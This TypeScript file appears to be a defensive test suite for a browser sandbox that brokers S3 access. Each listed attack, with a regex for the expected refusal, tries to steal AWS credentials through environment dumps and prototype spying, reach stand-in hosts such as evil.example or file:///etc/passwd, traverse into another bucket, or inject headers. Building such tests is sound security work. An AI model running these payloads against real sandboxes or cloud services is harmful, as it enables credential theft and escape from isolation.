/** One thing that a program tries to do. */
export interface Attack {
  readonly name: string;
  /** The body of an async function that answers what it could get. */
  readonly code: string;
  /** Matches what it answers or throws when it was refused. */
  readonly refused: RegExp;
}

const got = (address: string, init = '') =>
  `const r = await fetch(${address}${init && `, ${init}`}); return r.status + ' ' + (await r.text());`;
const notThere = /is not (a function|a constructor|defined)|undefined/;
const notConnected = /403 .*AccessDenied.*was not sent: this connection is for my-social-app-k3x9 only/s;
const noNetwork = /There is no network to/;

/** Look for the keys in what a program finds around it. */
const lookingAround: readonly Attack[] = [
  { name: 'environment', code: `return JSON.stringify(process.env)`, refused: /AKIAIOSFODNN7EXAMPLE/ },
  {
    name: 'credentials of a client',
    code: `return JSON.stringify(await s3.config.credentials())`,
    refused: /AKIAIOSFODNN7EXAMPLE/,
  },
  {
    name: 'every global',
    code: `return strings(globalThis)`,
    refused: /^\d{3,} strings/,
  },
  {
    name: 'what stands above a worker',
    code: `return ['parent', 'top', 'opener', 'window', 'document', 'frames'].map((n) => n + ' ' + typeof globalThis[n]).join()`,
    refused:
      /^parent undefined,top undefined,opener undefined,window undefined,document undefined,frames undefined$/,
  },
  {
    name: 'services that the page lends',
    code: `const call = globalThis[Object.getOwnPropertySymbols(globalThis).find((s) => String(s).includes('call-service'))];
      const told = [];
      for (const [a, b] of [['presigner', 'constructor'], ['__proto__', 'toString'], ['presigner', '__proto__'], ['keys', 'get'], ['files', 'constructor']])
        told.push(await call(a, b).catch((e) => e.message));
      return told.join()`,
    refused: /^(\S+ is not there\.,?){5}$/,
  },
];

/** Look for them in what passes by. */
const listening: readonly Attack[] = [
  {
    name: 'messages from the page',
    code: `const seen = []; const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data');
      Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get() { const data = get.call(this); seen.push(JSON.stringify(data)); return data; } });
      await s3.send(new ListObjectsV2Command({ Bucket: 'my-social-app' }));
      Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get });
      return seen.length + ' messages ' + seen.join()`,
    refused: /^[1-9]\d* messages .*"type":"response"/,
  },
  {
    name: 'prototypes that the page would use',
    code: `const seen = [];
      const spied = [[Headers.prototype, 'set'], [Headers.prototype, 'get'], [Array.prototype, 'map'], [Function.prototype, 'call'], [JSON, 'stringify'], [String.prototype, 'replaceAll'], [Promise.prototype, 'then'], [MessagePort.prototype, 'postMessage'], [Map.prototype, 'set']];
      const before = spied.map(([holder, name]) => holder[name]);
      const { apply } = Reflect; const push = seen.push.bind(seen);
      for (const [index, [holder, name]] of spied.entries()) { const own = before[index]; holder[name] = function (...args) { for (const one of args) if (typeof one === 'string') push(one); return apply(own, this, args); }; }
      for (const name of ['authorization', 'secretAccessKey', 'sessionToken', 'credentials']) Object.defineProperty(Object.prototype, name, { configurable: true, get() { return 'spied'; }, set(value) { push(String(value)); } });
      const { fetch: ownFetch, Request: OwnRequest } = globalThis;
      globalThis.Request = class extends OwnRequest { constructor(...args) { super(...args); push(JSON.stringify([...this.headers])); } };
      globalThis.fetch = (...args) => { push(String(args[0])); return ownFetch(...args); };
      let end = 'none';
      try { end = String((await fetch(ALLOWED)).status); } catch (e) { end = e.name; }
      globalThis.fetch = ownFetch; globalThis.Request = OwnRequest;
      for (const [index, [holder, name]] of spied.entries()) holder[name] = before[index];
      for (const name of ['authorization', 'secretAccessKey', 'sessionToken', 'credentials']) delete Object.prototype[name];
      return end + ' after ' + seen.length + ' values: ' + seen.join(' ').slice(0, 5000)`,
    refused: /after \d+ values/,
  },
  {
    name: 'errors',
    // The stack is printed by itself: the page draws it in a way of its own.
    code: `const told = []; const tell = (e) => { console.log(e.stack); return JSON.stringify([e.name, e.message, String(e.cause), Object.getOwnPropertyNames(e)]); };
      for (const address of [ALLOWED, 'https://secret.s3.us-east-1.amazonaws.com/x', REDIRECT, ELSEWHERE])
        try { told.push((await fetch(address)).status); } catch (e) { told.push(tell(e)); }
      try { await s3.send(new GetObjectCommand({ Bucket: 'my-social-app', Key: 'not there' })); } catch (e) { told.push(tell(e) + strings(e)); }
      return told.join(' | ')`,
    refused: /^403 .*There is no network to .*(The specified key does not exist|NoSuchKey)/s,
  },
  {
    name: 'console',
    code: `const told = strings(console); console.log('%s %o', 'shown', { a: 1 }); return told + String(console.context) + String(console.memory)`,
    refused: /strings/,
  },
  {
    name: 'what the server echoes',
    code: `const r = await fetch(ECHO, SIGNED); const text = await r.text(); const plain = await (await fetch(ECHO)).text();
      return r.status + JSON.stringify([...r.headers]) + text + plain`,
    // The server repeats everything; the page takes out the keys.
    refused: /^200.*Credential=\[your key\]\*+\/\d{8}/s,
  },
  {
    name: 'the time of a redirect',
    code: `const start = performance.now(); const end = await fetch(REDIRECT, SIGNED).then(async (r) => r.status + ' ' + r.url + ' ' + r.redirected + JSON.stringify([...r.headers]), (e) => e.message);
      return end + ' in ' + Math.round(performance.now() - start) + ' ms'`,
    refused: /(There was no answer|^307).* in \d+ ms$/s,
  },
];

/** Look for them where they could be kept, or leave something that finds them later. */
const storage: readonly Attack[] = [
  ...['localStorage', 'sessionStorage', 'indexedDB', 'caches', 'cookieStore'].map((name) => ({
    name,
    code: `return typeof globalThis[${JSON.stringify(name)}] === 'undefined' ? 'undefined' : JSON.stringify(await globalThis[${JSON.stringify(name)}].getAll())`,
    refused: /undefined|SecurityError|denied/,
  })),
  {
    name: 'the private file system',
    code: `return String(await navigator.storage.getDirectory())`,
    refused: /SecurityError|undefined|denied|opaque|getDirectory/i,
  },
];

/** Try to reach somebody else. */
const wayOut: readonly Attack[] = [
  ...[
    'BroadcastChannel',
    'SharedWorker',
    'Worker',
    'WebSocket',
    'EventSource',
    'XMLHttpRequest',
    'WebTransport',
  ].map((name) => ({
    name,
    code: `return String(new globalThis[${JSON.stringify(name)}](${name === 'BroadcastChannel' ? `'x'` : 'ELSEWHERE'}))`,
    refused: notThere,
  })),
  {
    name: 'a message to the page',
    code: `return String(globalThis.postMessage?.({ type: 'start', program: 'x' }))`,
    refused: /undefined/,
  },
  { name: 'importScripts', code: `return String(importScripts(ELSEWHERE))`, refused: notThere },
  {
    name: 'the service worker',
    code: `return String(await navigator.serviceWorker.getRegistrations())`,
    refused: /undefined|SecurityError/,
  },
  {
    name: 'an import from elsewhere',
    code: `const address = ELSEWHERE + '/x.js'; return Object.keys(await import(address)).join()`,
    refused: /import/i,
  },
  {
    name: 'the fetch that was there before',
    code: `let told = ''; for (let o = globalThis; o; o = Object.getPrototypeOf(o)) if (Object.hasOwn(o, 'fetch')) told += await o.fetch.call(globalThis, ELSEWHERE + '/native').then((r) => 'got ' + r.status, (e) => e.message); return told`,
    refused: /^There is no network/,
  },
];

/** Try to have something sent to another host. */
const hosts: readonly Attack[] = [
  ...[
    `ELSEWHERE`,
    `ELSEWHERE.replace('127.0.0.1', 'localhost')`,
    `ELSEWHERE.replace('127.0.0.1', '[::1]')`,
    `ELSEWHERE.replace('127.0.0.1', '2130706433')`,
    `ELSEWHERE.replace('http', 'https')`,
    `'https://my-social-app.s3.us-east-1.amazonaws.com.evil.example/x'`,
    `'https://s3.us-east-1.amazonaws.com./secret/x'`,
    `'https://evil-amazonaws.com/x'`,
    `'ftp://s3.us-east-1.amazonaws.com.evil.example/x'`,
    `'data:text/plain,x'`,
    `'file:///etc/passwd'`,
    `ENDPOINT.replace(/\\d+$/, (port) => String(Number(port) + 1)) + '/my-social-app/x'`,
  ].map((address) => ({ name: `the host of ${address}`, code: got(address), refused: noNetwork })),
  {
    name: 'a name and a password before a host',
    code: got(`'https://my-social-app.s3.us-east-1.amazonaws.com@' + ELSEWHERE.slice(7)`),
    refused: /credentials|no network/i,
  },
  {
    name: 'a host in other letters',
    code: got(`'https://ｓｅｃｒｅｔ。s3.us-east-1.amazonaws.com/x'`),
    refused: notConnected,
  },
  {
    name: 'a host in a header',
    code: got(
      'ALLOWED',
      `{ headers: { 'x-forwarded-host': 'evil.example', 'x-amz-host': 'evil.example', host: ELSEWHERE } }`,
    ),
    refused: /^(200 mine|40\d )/,
  },
  {
    name: 'a header with a line break',
    code: got('ALLOWED', `{ headers: { 'x-amz-meta-a': 'b\\r\\nHost: evil.example' } }`),
    refused: /TypeError|invalid/i,
  },
  {
    name: 'a key with a line break',
    code: got(`'https://my-social-app.s3.us-east-1.amazonaws.com/x%0d%0aHost:%20evil.example'`, 'SIGNED'),
    refused: /^404 .*NoSuchKey/s,
  },
];

/** What is got with the browser's own `Request`, which does not refuse steps in an address as the one of programs does. */
const gotWithOwnRequest = (address: string) =>
  got(`new (Object.getPrototypeOf(Request))(${address}, SIGNED)`);
const anotherBucketRefused =
  /AccessDenied.*was not sent|Failed to (parse|construct)|Invalid URL|InvalidBucketName/s;
const stepsRefused = /^TypeError A browser takes "\." and "\.\." out of an address/;

/** Try to reach another bucket. */
const buckets: readonly Attack[] = [
  ...[
    `'https://secret.s3.us-east-1.amazonaws.com/x'`,
    `'https://s3.us-east-1.amazonaws.com/secret/x'`,
    `'http://secret.s3.amazonaws.com:8080/x'`,
    `'https://secret.s3-website-us-east-1.amazonaws.com/x'`,
    `'https://s3.us-east-1.amazonaws.com/my-social-app%2f..%2fsecret/x'`,
    `'https://s3.us-east-1.amazonaws.com/%2e%2e%2fsecret/x'`,
    `'https://my-social-app%2fsecret.s3.us-east-1.amazonaws.com/x'`,
    `'https://127.0.0.1.s3.us-east-1.amazonaws.com/x'`,
    `'https://evil.example.s3.us-east-1.amazonaws.com/x'`,
    `ENDPOINT + '/secret/x'`,
  ].map((address) => ({
    name: `the bucket of ${address}`,
    code: got(address, 'SIGNED'),
    refused: anotherBucketRefused,
  })),
  ...[
    [`'https://s3.us-east-1.amazonaws.com/my-social-app/../secret/x'`, anotherBucketRefused] as const,
    [`ENDPOINT + '/my-social-app-k3x9/../secret/x'`, anotherBucketRefused] as const,
    [
      `'https://my-social-app.s3.us-east-1.amazonaws.com/a/%2e%2e/%252e%252e/secret/x'`,
      /400 .*InvalidURI/s,
    ] as const,
  ].flatMap(([address, refused]) => [
    { name: `steps in ${address}`, code: got(address, 'SIGNED'), refused: stepsRefused },
    {
      name: `steps in ${address}, with the browser's own Request`,
      code: gotWithOwnRequest(address),
      refused,
    },
  ]),
  ...[
    `'https://my-social-app.s3.us-east-1.amazonaws.com/..%2F..%2Fsecret%2Fx'`,
    `ENDPOINT + '/my-social-app-k3x9/..%2fsecret%2fx'`,
  ].map((address) => ({
    name: `a step up in ${address}`,
    code: got(address, 'SIGNED'),
    refused: /400 .*InvalidURI/s,
  })),
  {
    name: 'a slash before the key',
    code: got(`'https://my-social-app.s3.us-east-1.amazonaws.com//secret/x'`, 'SIGNED'),
    refused: /^404 .*NoSuchKey/s,
  },
  ...[
    `'/secret/x'`,
    `'secret/x?versionId=null'`,
    `'%2Fsecret%2Fx'`,
    `'arn:aws:s3:us-east-1:123456789012:accesspoint/secret/object/x'`,
    `'my-social-app/../secret/x'`,
  ].map((source) => ({
    name: `a copy from ${source}`,
    code: got(
      `ALLOWED + '-copy'`,
      `{ method: 'PUT', headers: { ...SIGNED.headers, 'x-amz-copy-source': ${source} } }`,
    ),
    refused: /^40[034] /,
  })),
  {
    name: 'a copy hidden in the query',
    code: got(`ALLOWED + '-copy?X-Amz-Copy-Source=secret%2Fx'`, `{ method: 'PUT', ...SIGNED }`),
    refused: /^400 .*headers in its query/s,
  },
  {
    name: 'a form for another bucket',
    code: `const form = new FormData(); for (const [n, v] of Object.entries({ bucket: 'secret', key: 'y', file: 'z' })) form.append(n, v);
      ${got(`'https://secret.s3.us-east-1.amazonaws.com/'`, `{ method: 'POST', body: form }`)}`,
    refused: notConnected,
  },
  {
    name: 'a session, which S3 would answer with keys',
    code: got(`'https://my-social-app.s3.us-east-1.amazonaws.com/?session'`, 'SIGNED'),
    refused: /^403 .*answer it with keys/s,
  },
  {
    name: 'a question for IAM',
    code: got(`'https://s3.us-east-1.amazonaws.com/?Action=GetSessionToken&Version=2011-06-15'`, 'SIGNED'),
    refused: /^403 .*answer it with keys/s,
  },
];

/** Try to have something signed that works elsewhere. */
const presigning: readonly Attack[] = [
  {
    name: 'an address for another bucket',
    code: `return getSignedUrl(s3, new GetObjectCommand({ Bucket: 'secret', Key: 'x' }))`,
    refused: /this connection is for my-social-app-k3x9 only/,
  },
  {
    name: 'an address with another method',
    code: `return getSignedUrl(s3, new DeleteBucketCommand({ Bucket: 'my-social-app' }))`,
    refused: /DeleteBucket is not presigned/,
  },
  {
    name: 'an address that opens an object',
    code: `return getSignedUrl(s3, new PutObjectAclCommand({ Bucket: 'my-social-app', Key: 'x', ACL: 'public-read' }))`,
    refused: /is not presigned|headers in its query/,
  },
  {
    name: 'an address for a week',
    code: `return getSignedUrl(s3, new GetObjectCommand({ Bucket: 'my-social-app', Key: 'x' }), { expiresIn: 604800 })`,
    refused: /3600 seconds at most/,
  },
  {
    name: 'an address without the SDK in between',
    code: `const call = globalThis[Object.getOwnPropertySymbols(globalThis).find((s) => String(s).includes('call-service'))];
      const told = [];
      for (const [url, method] of [['https://secret.s3.us-east-1.amazonaws.com/x', 'GET'], [ALLOWED + '?policy', 'PUT'], [ALLOWED + '?X-Amz-Expires=1e9', 'GET'], [ELSEWHERE, 'GET'], [ALLOWED, 'POST']])
        told.push(await call('presigner', 'presign', url, method).catch((e) => 'refused'));
      return told.join()`,
    refused: /^refused,refused,refused,refused,refused$/,
  },
  {
    name: 'an address used with another method',
    code: `const url = await getSignedUrl(s3, new GetObjectCommand({ Bucket: 'my-social-app', Key: 'x' })); ${got('url', `{ method: 'DELETE' }`)}`,
    refused: /^403 .*SignatureDoesNotMatch/s,
  },
  {
    name: 'a form that makes objects public',
    code: `return JSON.stringify(await createPresignedPost(s3, { Bucket: 'my-social-app', Key: 'x', Fields: { acl: 'public-read' } }))`,
    refused: /makes objects public/,
  },
];

/** All attacks. None may reveal a key, or reach the bucket `secret` or another server. */
export const attacks: readonly Attack[] = [
  ...lookingAround,
  ...listening,
  ...storage,
  ...wayOut,
  ...hosts,
  ...buckets,
  ...presigning,
];

/** One program that tries all of them, and prints a line for each. */
export function attackProgram(endpoint: string, elsewhere: string): string {
  const told = attacks.map(
    ({ name, code }) => `await attack(${JSON.stringify(name)}, async () => { ${code} });`,
  );
  return `// @ts-nocheck
import { DeleteBucketCommand, GetObjectCommand, ListObjectsV2Command, PutObjectAclCommand, S3Client } from '@aws-sdk/client-s3';
import { createPresignedPost } from '@aws-sdk/s3-presigned-post';
import { getSignedUrl } from '@aws-sdk/s3-request-presigner';

const s3 = new S3Client({ region: 'us-east-1', maxAttempts: 1 });
const ALLOWED = 'https://my-social-app.s3.us-east-1.amazonaws.com/x';
const ECHO = 'https://my-social-app.s3.us-east-1.amazonaws.com/echo';
const REDIRECT = 'https://my-social-app.s3.us-east-1.amazonaws.com/redirect';
const ENDPOINT = ${JSON.stringify(endpoint)};
const ELSEWHERE = ${JSON.stringify(elsewhere)};
// What asks the page to sign.
const SIGNED = { headers: { authorization: 'AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/x' } };

/** Every string that can be reached, over properties, symbols and prototypes. */
function strings(from) {
  const seen = new Set(); const found = []; const queue = [from];
  while (queue.length > 0 && seen.size < 20_000) {
    const one = queue.pop();
    if ((typeof one !== 'object' && typeof one !== 'function') || one === null || seen.has(one)) continue;
    seen.add(one);
    for (const name of Reflect.ownKeys(one)) {
      let value; try { value = one[name]; value?.catch?.(() => undefined); } catch { continue; }
      if (typeof value === 'string') found.push(value); else queue.push(value);
    }
    queue.push(Object.getPrototypeOf(one));
  }
  return found.length + ' strings ' + found.filter((text) => /AKIA|ASIA|secret|token/i.test(text)).join(' ').slice(0, 20_000);
}

async function attack(name, body) {
  let told;
  try { told = String(await body()); } catch (e) { told = [e?.name, e?.message].join(' '); }
  console.log('«' + name + '» ' + told + ' «end»');
}

${told.join('\n')}
console.log('over');
`;
}
